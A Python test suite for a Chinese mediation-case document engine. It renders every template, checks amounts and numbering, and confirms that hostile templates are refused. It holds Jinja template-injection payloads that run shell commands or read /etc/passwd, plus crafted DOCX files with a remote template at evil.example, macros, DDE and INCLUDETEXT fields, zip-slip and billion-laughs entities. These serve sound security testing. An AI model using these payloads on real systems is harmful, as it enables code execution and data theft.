"""The document engine on a real encrypted book: every template renders from a demo case and reads back
with its parties, number and amounts (figures and capitals); LibreOffice opens every DOCX; malicious and
runaway templates are stopped with a clear Chinese error; missing fields are named before anything is
numbered; a crash between numbering and saving never leads to a number being used twice."""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import docx
import pytest
from sqlalchemy import text

from mediation_desk.documents.engine import DocumentEngine
from mediation_desk.documents.registry import TemplateRegistry, missing_fields
from mediation_desk.documents import pdf
from mediation_desk.documents.render_docx import DocxRenderer
from mediation_desk.documents.sandbox import make_environment
from mediation_desk.domain.documents import (DocumentDamaged, DocumentError, MissingFields, RenderLimitExceeded,
                                             TemplateInvalid, TemplateSecurityError)
from mediation_desk.domain.errors import ConflictError, ValidationError
from mediation_desk.domain.money import format_yuan, to_chinese_capital
from mediation_desk.services import documents as sd
from tests.support.document_case import (AGREEMENT_TOTAL, DOC_DATE, PAYMENT_TOTAL, create_document_desk,
                                         documents_extra)

ROOT = Path(__file__).resolve().parents[2]
OUTPUT = ROOT / "tests" / "integration" / "output"
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
WORKER = "杨娟"
RESPONDENTS = ("江西星耀网络科技有限公司", "江西永信网络科技有限公司")
AGREEMENT_NUMBER = "洪新调协字〔2026〕第7号"
DATE_CN = "二〇二六年十一月二十九日"
CLAIMS_TOTAL = Decimal("7560.00")


def money(d: Decimal) -> tuple[str, str]:
    return format_yuan(d), to_chinese_capital(d)


# What each document must show beyond the parties: amounts (figures and capitals) and other facts.
EXPECTED: dict[str, list[str]] = {
    "mediation_application": [*money(CLAIMS_TOTAL), *money(Decimal("6790")), "刘思远"],
    "mediation_record": ["南昌市红谷滩区调解中心第二调解室", "王晓梅"],
    "mediation_agreement": [*money(AGREEMENT_TOTAL), *money(Decimal("2430.50")), *money(Decimal("770")),
                            "2026年12月15日", DATE_CN],
    "mediation_termination": [*money(CLAIMS_TOTAL), "被申请人明确表示不同意调解", DATE_CN],
    "payment_order_application": [*money(PAYMENT_TOTAL), AGREEMENT_NUMBER, "南昌市红谷滩区人民法院", DATE_CN],
    "arbitration_review_application": [*money(AGREEMENT_TOTAL), AGREEMENT_NUMBER, "南昌市劳动人事争议仲裁委员会"],
    "judicial_confirmation_application": [*money(Decimal("2430.50")), AGREEMENT_NUMBER],
    "evidence_list": ["星耀直播App排班与打卡截图", "证据3"],
    "relationship_opinion": ["符合确立劳动关系情形", "刘思远", "陈国华", "工作时间及工作量自主决定程度",
                             "未关联证据", "每天直播不少于5小时，须到公司直播间打卡", "证据1 排班与打卡截图",
                             "自2021年4月1日起执行", "已超过2年", "洪人社发〔2022〕88号，2022年5月12日"],
    "legal_aid_referral": [*money(CLAIMS_TOTAL), "南昌市法律援助中心", "转 介 回 执"],
    "service_receipt": ["直接送达", AGREEMENT_NUMBER, *RESPONDENTS],
    "case_cover": ["调解结案", "卷 宗 目 录", "调解协议书"],
}
DOCX_CODES = list(EXPECTED)


def docx_text(data: bytes) -> str:
    """Every piece of text python-docx finds: body paragraphs, tables (nested), headers and footers."""
    d = docx.Document(io.BytesIO(data))
    out: list[str] = []

    def cells(tables) -> None:  # noqa: ANN001
        for t in tables:
            for row in t.rows:
                for cell in row.cells:
                    out.extend(p.text for p in cell.paragraphs)
                    cells(cell.tables)

    out.extend(p.text for p in d.paragraphs)
    cells(d.tables)
    for s in d.sections:
        for part in (s.header, s.footer, s.even_page_header, s.even_page_footer):
            out.extend(p.text for p in part.paragraphs)
    return "\n".join(out)


@pytest.fixture(scope="module")
def desk(tmp_path_factory):
    d = create_document_desk(tmp_path_factory.mktemp("documents") / "book")
    engine = DocumentEngine()
    yield d, engine
    engine.close()
    d.book.close()


@pytest.fixture(scope="module")
def rendered(desk):
    """Every DOCX template rendered once for the demo case: code -> (DocumentView, bytes)."""
    d, engine = desk
    out = {}
    folder = OUTPUT / "docx"
    folder.mkdir(parents=True, exist_ok=True)
    for code in DOCX_CODES:
        view = sd.render_document(d.book.uow, engine, d.staff, case_id=d.case_id, template=code,
                                  context_overrides=documents_extra(code), today=DOC_DATE)
        data = sd.read_document(d.book.uow, d.staff, document_id=view.id)
        (folder / f"{code}.docx").write_bytes(data)
        out[code] = (view, data)
    return out


# --------------------------------------------------------------------------- rendering every template


def test_registry_lists_every_template_and_its_files_are_safe(desk) -> None:
    _, engine = desk
    codes = {s.code for s in engine.specs()}
    assert set(DOCX_CODES) <= codes
    assert {"evidence_list_pdf", "case_cover_pdf", "relationship_opinion_pdf", "service_receipt_pdf"} <= codes
    for code in DOCX_CODES:
        engine.check_template(code)  # no external links, macros, oversized parts...


@pytest.mark.parametrize("code", DOCX_CODES)
def test_every_template_renders_and_reads_back(rendered, desk, code) -> None:
    d, engine = desk
    view, data = rendered[code]
    spec = engine.spec(code)
    text = docx_text(data)
    assert "{{" not in text and "{%" not in text and "}}" not in text
    title = {"case_cover": "卷宗目录"}.get(code, spec.title)
    assert title in text.replace(" ", "").replace("　", "")
    assert WORKER in text
    if code not in ("mediation_record", "evidence_list", "relationship_opinion"):
        for name in RESPONDENTS:
            assert name in text, (code, name)
    if spec.number.code == "none":
        assert view.number == ""
    else:
        assert view.number and view.number in text
        if spec.number.code == "case":
            assert view.number == "洪新调字〔2025〕第1号"
    for expected in EXPECTED[code]:
        assert expected in text, (code, expected)
    assert view.version >= 1 and view.size == len(data) and view.format == "docx"
    assert view.filename.endswith(".docx") and "〔" not in view.filename


def test_numbers_follow_the_kind_of_document(rendered) -> None:
    assert rendered["mediation_agreement"][0].number == "洪新调协字〔2026〕第1号"
    assert rendered["mediation_termination"][0].number == "洪新调告字〔2026〕第1号"
    assert rendered["legal_aid_referral"][0].number == "洪新调援转字〔2026〕第1号"
    assert rendered["payment_order_application"][0].number == ""


def test_evidence_list_carries_every_hash(rendered, desk) -> None:
    d, _ = desk
    text = docx_text(rendered["evidence_list"][1])
    items = sd.list_documents(d.book.uow, d.staff, case_id=d.case_id)
    assert items
    from mediation_desk.services.evidence import list_evidence

    for item in list_evidence(d.book.uow, d.staff, case_id=d.case_id):
        assert item.sha256 in text.replace("\n", "")
        assert item.title in text


def test_templates_use_only_declared_fields(desk) -> None:
    """Every variable a template uses is declared in the registry (the check before rendering is complete)."""
    from docxtpl import DocxTemplate

    _, engine = desk
    for code in DOCX_CODES:
        spec = engine.spec(code)
        declared = {f.name.split(".")[0] for f in spec.fields}
        used = DocxTemplate(engine.registry.path(code)).get_undeclared_template_variables(
            jinja_env=make_environment())
        assert used <= declared, (code, used - declared)


def test_every_docx_converts_to_pdf_with_libreoffice(rendered, tmp_path) -> None:
    if SOFFICE is None:
        pytest.skip("LibreOffice (soffice) is not installed; CI installs libreoffice-writer-nogui")
    src = OUTPUT / "docx"
    out = OUTPUT / "docx-pdf"
    out.mkdir(parents=True, exist_ok=True)
    for old in out.glob("*.pdf"):
        old.unlink()
    profile = tmp_path / "lo-profile"
    files = [str(src / f"{code}.docx") for code in DOCX_CODES]
    result = subprocess.run([SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
                             "--convert-to", "pdf", "--outdir", str(out), *files],
                            capture_output=True, text=True, timeout=240)
    assert result.returncode == 0, result.stderr
    for code in DOCX_CODES:
        pdf_path = out / f"{code}.pdf"
        assert pdf_path.is_file() and pdf_path.stat().st_size > 1000, code
        txt = subprocess.run(["pdftotext", "-layout", str(pdf_path), "-"], capture_output=True, text=True,
                             check=True).stdout
        assert WORKER in txt, code
    pngs = OUTPUT / "png"
    pngs.mkdir(parents=True, exist_ok=True)
    for code in ("mediation_agreement", "evidence_list", "relationship_opinion", "case_cover"):
        subprocess.run(["pdftoppm", "-png", "-r", "80", "-f", "1", "-l", "3", str(out / f"{code}.pdf"),
                        str(pngs / f"docx-{code}")], check=True, timeout=60)
    assert list(pngs.glob("docx-mediation_agreement-*.png"))


# --------------------------------------------------------------------------- versions, reading, exporting


def test_rerender_keeps_or_draws_numbers_by_kind(desk, rendered) -> None:
    d, engine = desk
    first = rendered["mediation_agreement"][0]
    again = sd.render_document(d.book.uow, engine, d.staff, case_id=d.case_id, template="mediation_agreement",
                               context_overrides=documents_extra("mediation_agreement"), today=DOC_DATE)
    assert (again.number, again.version) == (first.number, first.version + 1)
    letter = rendered["legal_aid_referral"][0]
    second = sd.render_document(d.book.uow, engine, d.staff, case_id=d.case_id, template="legal_aid_referral",
                                context_overrides=documents_extra("legal_aid_referral"), today=DOC_DATE)
    assert second.version == letter.version + 1 and second.number != letter.number
    case_doc = sd.render_document(d.book.uow, engine, d.staff, case_id=d.case_id, template="service_receipt",
                                  context_overrides=documents_extra("service_receipt"), today=DOC_DATE)
    assert case_doc.number == "洪新调字〔2025〕第1号" and case_doc.version == 2


def test_export_is_explicit_audited_and_refuses_to_overwrite(desk, rendered, tmp_path) -> None:
    d, _ = desk
    view, data = rendered["mediation_agreement"]
    target = sd.export_document(d.book.uow, d.staff, document_id=view.id, target_path=tmp_path / "协议.docx")
    assert target.read_bytes() == data
    with pytest.raises(ConflictError):
        sd.export_document(d.book.uow, d.staff, document_id=view.id, target_path=target)
    assert sd.export_document(d.book.uow, d.staff, document_id=view.id, target_path=target, overwrite=True) == target
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]
    with d.book.engine.connect() as conn:
        rows = conn.execute(text("SELECT changes FROM audit_log WHERE action = 'document.export'")).all()
    assert any(str(target) in r[0] for r in rows)


def test_a_changed_document_is_reported_not_returned(desk, rendered) -> None:
    d, engine = desk
    view = sd.render_document(d.book.uow, engine, d.staff, case_id=d.case_id, template="evidence_list",
                              context_overrides=documents_extra("evidence_list"), today=DOC_DATE)
    with d.book.engine.begin() as conn:
        original = conn.execute(text("SELECT content FROM documents WHERE id = :i"), {"i": view.id}).scalar_one()
        conn.execute(text("UPDATE documents SET content = :c WHERE id = :i"), {"c": b"PK tampered", "i": view.id})
    try:
        with pytest.raises(DocumentDamaged) as err:
            sd.read_document(d.book.uow, d.staff, document_id=view.id)
        assert "哈希值不符" in err.value.zh
    finally:  # the module's book is shared: put the bytes back
        with d.book.engine.begin() as conn:
            conn.execute(text("UPDATE documents SET content = :c WHERE id = :i"), {"c": original, "i": view.id})


# --------------------------------------------------------------------------- missing fields


class SpyEngine:
    """Delegates to the engine and records whether anything past the field check was reached."""

    def __init__(self, engine: DocumentEngine) -> None:
        self.engine = engine
        self.calls: list[str] = []

    def spec(self, code: str):  # noqa: ANN201
        return self.engine.spec(code)

    def specs(self):  # noqa: ANN201
        return self.engine.specs()

    def check_template(self, code: str) -> None:
        self.calls.append("check")
        self.engine.check_template(code)

    def render(self, code, context):  # noqa: ANN001, ANN201
        self.calls.append("render")
        return self.engine.render(code, context)

    def backup_recovery_sheet(self, data):  # noqa: ANN001, ANN201
        return self.engine.backup_recovery_sheet(data)


def number_draws(book) -> int:  # noqa: ANN001
    with book.engine.connect() as conn:
        return conn.execute(text("SELECT count(*) FROM audit_log WHERE action = 'document.number'")).scalar_one()


def test_missing_required_fields_are_named_before_rendering_or_numbering(desk) -> None:
    d, engine = desk
    spy = SpyEngine(engine)
    draws = number_draws(d.book)
    with pytest.raises(MissingFields) as err:
        sd.render_document(d.book.uow, spy, d.staff, case_id=d.case_id, template="mediation_agreement",
                           context_overrides={"mediator": "刘思远"}, today=DOC_DATE)
    assert err.value.labels == ["协议内容", "履行方式和期限"]  # the total only when there are money items
    for label in err.value.labels:
        assert label in err.value.zh
    assert err.value.zh.startswith("生成《调解协议书》前还缺少以下内容")
    assert spy.calls == [] and number_draws(d.book) == draws

    with pytest.raises(MissingFields) as err:
        sd.render_document(d.book.uow, spy, d.staff, case_id=d.case_id, template="mediation_agreement",
                           context_overrides={**documents_extra("mediation_agreement"),
                                              "agreement_items": [{"clause": "甲公司应于2026年12月15日前向乙支付报酬人民币100.00元。",
                                                                  "content": "支付报酬"}, {"amount": "100"}]},
                           today=DOC_DATE)
    assert err.value.labels == ["协议内容第2项的约定条款", "协议内容第2项的内容"]
    with pytest.raises(ValidationError) as bad:
        sd.render_document(d.book.uow, spy, d.staff, case_id=d.case_id, template="mediation_agreement",
                           context_overrides={**documents_extra("mediation_agreement"), "agreement_total": "三千"},
                           today=DOC_DATE)
    assert not isinstance(bad.value, MissingFields) and "协议金额合计" in bad.value.zh
    with pytest.raises(ValidationError):
        sd.render_document(d.book.uow, spy, d.staff, case_id=d.case_id, template="mediation_agreement",
                           context_overrides={**documents_extra("mediation_agreement"), "doc_number": "第1号"})
    assert spy.calls == [] and number_draws(d.book) == draws


def test_missing_fields_of_the_registry_api(desk) -> None:
    _, engine = desk
    spec = engine.spec("service_receipt")
    assert missing_fields(spec, {}) == ["机构名称", "案号", "文号", "申请人", "被申请人", "送达文书", "受送达人",
                                        "送达地址", "送达方式", "送达人", "文书日期"]
    full = {"org": {"name": "某调解中心"}, "case": {"number": "洪新调字〔2026〕第1号"}, "doc_number": "x",
            "applicants": [{"name": "杨娟"}], "respondents": [{"name": "江西星耀网络科技有限公司"}],
            "served_documents": [{"title": "调解协议书"}], "recipient": "杨娟", "service_address": "南昌",
            "service_method": "直接送达", "server": "刘思远", "document_date": "2026-11-29"}
    assert missing_fields(spec, full) == []
    assert missing_fields(spec, {**full, "served_documents": [{"number": "1"}]}) == ["送达文书第1项的文书名称"]


def test_a_broken_registry_names_every_problem(tmp_path) -> None:
    folder = tmp_path / "docs"
    shutil.copytree(TemplateRegistry.load(generators=pdf.GENERATORS).folder, folder)
    data = json.loads((folder / "registry.json").read_text("utf-8"))
    data["templates"][0]["fields"][0]["type"] = "number"
    data["templates"][1]["fields"][0]["label"] = ""
    data["templates"][2]["file"] = "missing.docx"
    data["templates"][3]["code"] = data["templates"][4]["code"]
    data["templates"][5]["number"] = "nonexistent"
    (folder / "registry.json").write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    with pytest.raises(TemplateInvalid) as err:
        TemplateRegistry.load(folder, generators=pdf.GENERATORS)
    detail = err.value.detail or ""
    for needle in ("未知的字段类型“number”", "缺少中文名称", "找不到模板文件 missing.docx", "代码重复", "未知的编号种类"):
        assert needle in detail, needle
    assert err.value.zh.startswith("文书模板登记表（registry.json）有误")


# --------------------------------------------------------------------------- malicious templates


def _template(*, body: str = "正文", header: str | None = None, footer: str | None = None,
              footnote: str | None = None) -> bytes:
    d = docx.Document()
    d.add_paragraph(body)
    if header is not None:
        d.sections[0].header.paragraphs[0].text = header
    if footer is not None:
        d.sections[0].footer.paragraphs[0].text = footer
    buf = io.BytesIO()
    d.save(buf)
    data = buf.getvalue()
    return _with_footnote(data, footnote) if footnote is not None else data


_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _rewrite(data: bytes, edit: Callable[[str, bytes], bytes | None], add: dict[str, bytes] | None = None) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            blob = edit(info.filename, src.read(info))
            if blob is not None:
                dst.writestr(info.filename, blob)
        for name, blob in (add or {}).items():
            dst.writestr(name, blob)
    return out.getvalue()


def _with_footnote(data: bytes, payload: str) -> bytes:
    from xml.sax.saxutils import escape

    footnotes = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes xmlns:w="{_W}">'
                 '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:footnote>'
                 '<w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/></w:r>'
                 f'</w:p></w:footnote><w:footnote w:id="1"><w:p><w:r><w:t>{escape(payload)}</w:t></w:r></w:p>'
                 '</w:footnote></w:footnotes>').encode()

    def edit(name: str, blob: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return blob.replace(b"</Types>", b'<Override PartName="/word/footnotes.xml" ContentType="application/'
                                b'vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"/></Types>')
        if name == "word/_rels/document.xml.rels":
            return blob.replace(b"</Relationships>", b'<Relationship Id="rIdFn1" Type="http://schemas.openxmlformats'
                                b'.org/officeDocument/2006/relationships/footnotes" Target="footnotes.xml"/>'
                                b"</Relationships>")
        return blob

    return _rewrite(data, edit, {"word/footnotes.xml": footnotes})


@pytest.fixture(scope="module")
def renderer():
    r = DocxRenderer(timeout=20)
    yield r
    r.close()


PAYLOADS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}",
    "{{ joiner.__init__.__globals__.os.system('touch MARKER') }}",
    "{{ namespace.__init__.__globals__['os'].popen('touch MARKER') }}",
    "{{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{% import 'os' as os %}{{ os.popen('touch MARKER') }}",
    "{% include '/etc/passwd' %}",
    "{% from '/etc/passwd' import root %}{{ root }}",
    "{% extends '/etc/hostname' %}",
    "{{ '{0.__class__.__base__.__subclasses__}'.format(name) }}",
    "{{ name.__class__.__init__.__globals__ }}",
    "{{ '%s' % name }}",
]


@pytest.mark.parametrize("where", ["body", "header", "footer", "footnote"])
def test_malicious_templates_render_nothing_and_say_why(renderer, tmp_path, where) -> None:
    marker = tmp_path / "MARKER"
    for payload in PAYLOADS:
        payload = payload.replace("MARKER", str(marker))
        data = _template(**{where: "申请人：{{ name }} " + payload})
        with pytest.raises(TemplateSecurityError) as err:
            renderer.render(data, {"name": "杨娟"})
        assert err.value.zh.startswith("模板含有不允许的内容："), (where, payload, err.value.zh)
        assert "Traceback" not in err.value.zh and "Traceback" not in (err.value.detail or "")
        assert not marker.exists(), (where, payload)
    ok = renderer.render(_template(**{where: "申请人：{{ name }}"}), {"name": "杨娟"})
    assert zipfile.ZipFile(io.BytesIO(ok)).testzip() is None
    assert "杨娟" in b"".join(zipfile.ZipFile(io.BytesIO(ok)).read(n) for n in
                            zipfile.ZipFile(io.BytesIO(ok)).namelist() if n.endswith(".xml")).decode()


def test_undeclared_fields_and_broken_tags_are_template_errors(renderer) -> None:
    with pytest.raises(TemplateInvalid) as err:
        renderer.render(_template(body="{{ salary }}"), {"name": "x"})
    assert "未声明的字段“salary”" in err.value.zh
    with pytest.raises(TemplateInvalid) as err:
        renderer.render(_template(body="{% for x in %}"), {})
    assert err.value.zh.startswith("模板的标记有误")
    with pytest.raises(TemplateInvalid) as err:
        renderer.render(b"not a zip at all", {})
    assert "不是有效的Word（DOCX）文件" in err.value.zh


def _settings_attached_template(data: bytes) -> bytes:
    def edit(name: str, blob: bytes) -> bytes:
        if name == "word/settings.xml":
            return blob.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1).replace(
                b"<w:settings ", b'<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                b'relationships" ', 1) if b"xmlns:r=" not in blob else blob.replace(
                b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
        return blob

    return _rewrite(data, edit)


def _external_rel(data: bytes, rtype: str = "hyperlink", target: str = "http://evil.example/x") -> bytes:
    def edit(name: str, blob: bytes) -> bytes:
        if name == "word/_rels/document.xml.rels":
            rel = (f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                   f'{rtype}" Target="{target}" TargetMode="External"/></Relationships>').encode()
            return blob.replace(b"</Relationships>", rel)
        return blob

    return _rewrite(data, edit)


def _body_xml(data: bytes, fn: Callable[[bytes], bytes]) -> bytes:
    return _rewrite(data, lambda name, blob: fn(blob) if name == "word/document.xml" else blob)


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>')


@pytest.mark.parametrize("case", ["external_link", "remote_template", "attached_template", "macros", "doctype",
                                  "include_field", "dde_field", "oversized_part", "zip_slip", "activex"])
def test_unsafe_docx_files_are_refused_before_rendering(renderer, case) -> None:
    base = _template(body="{{ name }}")
    data = {
        "external_link": lambda: _external_rel(base),
        "remote_template": lambda: _rewrite(_settings_attached_template(base), lambda n, b: b, {
            "word/_rels/settings.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.'
            b'org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
            b'TargetMode="External"/></Relationships>'}),
        "attached_template": lambda: _settings_attached_template(base),
        "macros": lambda: _rewrite(base, lambda n, b: b, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        "doctype": lambda: _body_xml(base, lambda b: BILLION_LAUGHS + b.split(b"?>", 1)[1]),
        "include_field": lambda: _body_xml(base, lambda b: b.replace(
            b"</w:body>", b'<w:p><w:r><w:instrText xml:space="preserve"> INCLUDETEXT "C:\\\\secret.txt" '
            b"</w:instrText></w:r></w:p></w:body>")),
        "dde_field": lambda: _body_xml(base, lambda b: b.replace(
            b"</w:body>", b'<w:p><w:fldSimple w:instr=\'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"\'/>'
            b"</w:p></w:body>")),
        "oversized_part": lambda: _rewrite(base, lambda n, b: b, {"word/media/huge.xml": b"<a>" + b" " * (9 << 20) + b"</a>"}),
        "zip_slip": lambda: _rewrite(base, lambda n, b: b, {"../../evil.xml": b"<a/>"}),
        "activex": lambda: _rewrite(base, lambda n, b: b, {"word/activeX/activeX1.xml": b"<a/>"}),
    }[case]()
    started = renderer.workers_started
    with pytest.raises(TemplateSecurityError) as err:
        renderer.render(data, {"name": "杨娟"})
    assert err.value.zh.startswith("模板含有不允许的内容：")
    assert renderer.workers_started == started  # refused before any process saw it


def test_a_malicious_template_through_the_service_stores_nothing(desk, tmp_path) -> None:
    d, _ = desk
    folder = tmp_path / "docs"
    shutil.copytree(TemplateRegistry.load(generators=pdf.GENERATORS).folder, folder)
    (folder / "service_receipt.docx").write_bytes(
        _template(body="{{ org.name }}{{ cycler.__init__.__globals__.os.popen('id').read() }}", footer="{{ doc_number }}"))
    before = sd.list_documents(d.book.uow, d.staff, case_id=d.case_id)
    with DocumentEngine(folder=folder) as engine:
        with pytest.raises(TemplateSecurityError) as err:
            sd.render_document(d.book.uow, engine, d.staff, case_id=d.case_id, template="service_receipt",
                               context_overrides=documents_extra("service_receipt"), today=DOC_DATE)
    assert err.value.zh == "模板含有不允许的内容：访问对象的内部属性“__init__”"
    assert sd.list_documents(d.book.uow, d.staff, case_id=d.case_id) == before


# --------------------------------------------------------------------------- runaway templates

LOOP_SILENT = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
LOOP_LOUD = "{% for i in range(100000) %}{% for j in range(100000) %}xxxxxxxxxx{% endfor %}{% endfor %}"


def test_a_loop_that_prints_nothing_is_killed_by_the_timeout() -> None:
    with DocxRenderer(timeout=2) as r:
        start = time.monotonic()
        with pytest.raises(RenderLimitExceeded) as err:
            r.render(_template(body="{{ name }}" + LOOP_SILENT), {"name": "杨娟"})
        elapsed = time.monotonic() - start
        assert err.value.limit == "timeout" and "超时" in err.value.zh
        assert elapsed < 10
        assert r.render(_template(body="{{ name }}"), {"name": "杨娟"})  # a fresh worker takes over
        assert r.workers_started == 2


@pytest.mark.parametrize("where", ["body", "header", "footer"])
def test_a_loop_that_prints_is_stopped_by_the_output_cap(renderer, where) -> None:
    start = time.monotonic()
    with pytest.raises(RenderLimitExceeded) as err:
        renderer.render(_template(**{where: LOOP_LOUD}), {})
    assert err.value.limit == "output" and "过大" in err.value.zh
    assert time.monotonic() - start < renderer.timeout
    with pytest.raises(RenderLimitExceeded):
        renderer.render(_template(body="{{ 'x' * 1000000000 }}"), {})
    with pytest.raises(RenderLimitExceeded):
        renderer.render(_template(body="{{ 'x'|center(1000000000) }}"), {})
    assert renderer.render(_template(body="{{ name }}"), {"name": "杨娟"})


# --------------------------------------------------------------------------- numbering and crashes

CRASH_SCRIPT = """
import os, sys
from pathlib import Path
sys.path.insert(0, sys.argv[2])
from mediation_desk.documents.engine import DocumentEngine
from mediation_desk.domain.users import Principal, Role
from mediation_desk.services import documents as sd
from tests.support.books import reopen
from tests.support.document_case import DOC_DATE, documents_extra

class CrashingEngine(DocumentEngine):
    def render(self, code, context):
        os._exit(17)  # the process dies between numbering and saving

book = reopen(Path(sys.argv[1]))
mediator = Principal(user_id=2, username="desk", display_name="刘思远", role=Role.MEDIATOR)
sd.render_document(book.uow, CrashingEngine(), mediator, case_id=1, template=sys.argv[3],
                   context_overrides=documents_extra(sys.argv[3]), today=DOC_DATE)
"""


def _crash(book_dir: Path, template: str, tmp_path: Path) -> None:
    script = tmp_path / "crash.py"
    script.write_text(CRASH_SCRIPT, "utf-8")
    result = subprocess.run([sys.executable, str(script), str(book_dir), str(ROOT), template], capture_output=True,
                            text=True, timeout=120, cwd=ROOT)
    assert result.returncode == 17, result.stderr


def drawn_numbers(book) -> list[str]:  # noqa: ANN001
    with book.engine.connect() as conn:
        rows = conn.execute(text("SELECT changes FROM audit_log WHERE action = 'document.number' ORDER BY id")).all()
    return [json.loads(r[0])["number"] for r in rows]


def test_a_crash_between_numbering_and_saving_never_reuses_the_number(tmp_path) -> None:
    d = create_document_desk(tmp_path / "book")
    try:
        with DocumentEngine() as engine:
            _crash(tmp_path / "book", "mediation_agreement", tmp_path)
            burned = drawn_numbers(d.book)
            assert burned == ["洪新调协字〔2026〕第1号"]
            assert sd.list_documents(d.book.uow, d.staff, case_id=d.case_id) == []

            def render(code: str, **kw):  # noqa: ANN003, ANN202
                return sd.render_document(d.book.uow, engine, d.staff, case_id=d.case_id, template=code,
                                          context_overrides=documents_extra(code), today=DOC_DATE, **kw)

            first = render("mediation_agreement")
            assert first.number == "洪新调协字〔2026〕第2号" and first.number not in burned
            corrected = render("mediation_agreement")
            assert (corrected.number, corrected.version) == (first.number, 2)
            reissued = render("mediation_agreement", new_number=True)
            assert reissued.number == "洪新调协字〔2026〕第3号"

            _crash(tmp_path / "book", "legal_aid_referral", tmp_path)
            letters = [render("legal_aid_referral") for _ in range(3)]
            numbers = drawn_numbers(d.book)
            assert len(numbers) == len(set(numbers)) == 7
            letter_numbers = [v.number for v in letters]
            assert len(set(letter_numbers)) == 3 and "洪新调援转字〔2026〕第1号" not in letter_numbers
            stored = sd.list_documents(d.book.uow, d.staff, case_id=d.case_id)
            distinct_documents = {(v.template, v.number) for v in stored}
            numbers_of_documents = [n for _, n in distinct_documents]
            assert len(numbers_of_documents) == len(set(numbers_of_documents))
    finally:
        d.book.close()


def test_document_errors_are_app_errors_with_chinese_text() -> None:
    for exc in (TemplateSecurityError("宏", "macros"), RenderLimitExceeded("超时", "timeout"),
                TemplateInvalid("模板有误", "bad")):
        assert isinstance(exc, DocumentError) and exc.zh and exc.en


def test_the_opinion_form_is_filled_from_the_latest_worksheet(tmp_path) -> None:
    from mediation_desk.services.worksheets import assess
    from mediation_desk.services.clock import now

    d = create_document_desk(tmp_path / "book")
    try:
        a = assess({"time_autonomy": "partial", "process_control": "partial", "continuity": "regular",
                    "price_autonomy": "enterprise_sets", "rules_and_discipline": "platform_standard"})
        with d.book.uow.write() as tx:
            tx.worksheets.add(case_id=d.case_id, chain_key="2,3", version=1,
                              chain=[{"name": "江西星耀网络科技有限公司"}, {"name": "江西永信网络科技有限公司"}],
                              answers={}, context={}, assessment=a.as_dict(), recommended_category=a.category,
                              decision="overridden", final_category="incomplete_labor_relationship",
                              reason="平台通过算法派单但劳动者可拒单，改为不完全符合情形", decided_by="admin",
                              decided_by_name="陈国华", decided_by_role="mediator", decided_at=now())
        with DocumentEngine() as engine:
            view = sd.render_document(d.book.uow, engine, d.staff, case_id=d.case_id, template="relationship_opinion",
                                      today=DOC_DATE)
            text = docx_text(sd.read_document(d.book.uow, d.staff, document_id=view.id))
        for needle in ("不完全符合确立劳动关系情形", "改变建议结论", "平台通过算法派单但劳动者可拒单", "陈国华",
                       "审核人（调解员）", "江西永信网络科技有限公司", "部分自主", "劳动过程受管理控制程度"):
            assert needle in text, needle
    finally:
        d.book.close()



def test_an_opinion_on_two_answers_says_information_is_insufficient(tmp_path) -> None:
    """Work records answer working time and continuity only: the form's headline is 信息不足,
    every bare answer says it has no fact and no evidence, and no factual sentence is invented."""
    from mediation_desk.services.worksheets import assess
    from mediation_desk.services.clock import now

    d = create_document_desk(tmp_path / "book")
    try:
        a = assess({"time_autonomy": "controlled", "continuity": {"level": "occasional", "note": "10周中有3周有订单"},
                    "process_control": "dominant"})
        assert not a.sufficient
        with d.book.uow.write() as tx:
            tx.worksheets.add(case_id=d.case_id, chain_key="2", version=1, chain=[{"name": "江西星耀网络科技有限公司"}],
                              answers={}, context={}, assessment=a.as_dict(), recommended_category=a.category,
                              decision="overridden", final_category="incomplete_labor_relationship",
                              reason="依双方庭审陈述先行认定", decided_by="admin", decided_by_name="陈国华",
                              decided_by_role="mediator", decided_at=now())
        with DocumentEngine() as engine:
            view = sd.render_document(d.book.uow, engine, d.staff, case_id=d.case_id, template="relationship_opinion",
                                      today=DOC_DATE)
            text = docx_text(sd.read_document(d.book.uow, d.staff, document_id=view.id))
        assert "建议结论\n信息不足" in text or "建议结论信息不足" in text.replace("\n", "")
        for needle in ("信息不足，尚不能提出建议结论", "信息不足，未提出建议结论；由审核人认定", "10周中有3周有订单",
                       "未关联证据", "未记录", "不完全符合确立劳动关系情形", "自2021年4月1日起执行"):
            assert needle in text, needle
        for invented in ("安排班次", "请假须经批准", "强制派单", "早会", "定位监控"):
            assert invented not in text, invented
    finally:
        d.book.close()

